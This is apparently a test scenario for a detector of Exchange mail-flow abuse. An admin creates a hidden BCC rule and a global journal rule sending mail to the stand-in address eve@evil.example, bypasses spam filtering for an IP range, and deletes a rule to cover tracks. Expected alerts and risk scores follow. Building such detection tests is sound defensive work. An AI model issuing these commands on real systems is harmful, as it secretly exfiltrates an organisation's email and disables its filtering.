# Mail flow rules that copy, let past and vanish, and a journal that leads outside.
domain fabrikam.com
person root "Rita Root" admin

mon 03:00 root runs New-TransportRule as admin from 203.0.113.7 Name="Archive" BlindCopyTo="eve@evil.example"
mon 03:10 root runs New-TransportRule as admin Name="Scanner" SetSCL="-1" SenderIpRanges="203.0.113.0/24"
mon 04:00 root runs Remove-TransportRule as admin Identity="Archive"
mon 05:00 root runs New-JournalRule as admin Name="Journal" JournalEmailAddress="eve@evil.example" Scope="Global"
expect transport-rule-takes-mail root risk 80 says "copies mail in secret to eve@evil.example"
expect transport-rule-skips-filter root
expect transport-rule-off root risk 60 says "which copies mail in secret"
expect journal-goes-outside root risk 65
